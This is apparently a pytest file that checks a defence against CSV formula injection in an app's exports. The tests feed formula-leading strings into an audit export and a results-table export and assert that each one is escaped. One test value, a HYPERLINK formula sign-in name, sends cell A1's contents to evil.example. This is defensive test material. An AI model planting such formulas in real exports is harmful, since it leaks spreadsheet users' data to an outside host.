"""CSV exports cannot carry live spreadsheet formulas (issue 23: CSV injection)."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from jobs.services.csv_safe import escape_csv_cells
from store import sign_in as store_sign_in
from store import users
from store.audit import read_audit


def test_formula_leading_text_is_escaped_and_numbers_and_times_are_kept():
    frame = pd.DataFrame(
        {
            "name": ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "ok", None],
            "amae": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7],
            "when": pd.Timestamp("2026-01-01"),
        }
    )
    out = escape_csv_cells(frame)
    assert out["name"].tolist()[:7] == [
        '\'=HYPERLINK("http://x")',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
    ]
    assert pd.isna(out["name"].iloc[7])
    assert out["amae"].tolist() == frame["amae"].tolist() and out["when"].equals(frame["when"])
    assert frame["name"].iloc[0].startswith("=")  # the caller's frame is left alone


def test_a_name_typed_at_sign_in_reaches_the_audit_csv_as_text(store):
    from pages.present.admin_tables import audit_csv

    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with pytest.raises(users.SignInError):
        store_sign_in.sign_in(attack, "wrong password", path=store)
    exported = pd.read_csv(io.StringIO(audit_csv(read_audit(path=store))))
    assert set(exported["Who"]) == {"'" + attack}


def test_a_results_table_export_escapes_text_cells():
    from pages.present.stat_tables import tables_csv

    text = tables_csv({"stats": pd.DataFrame({"method": ["=1+1", "beta"], "p": [-0.01, 0.2]})})
    exported = pd.read_csv(io.StringIO(text))
    assert exported["method"].tolist() == ["'=1+1", "beta"]
    assert exported["p"].tolist() == [-0.01, 0.2]
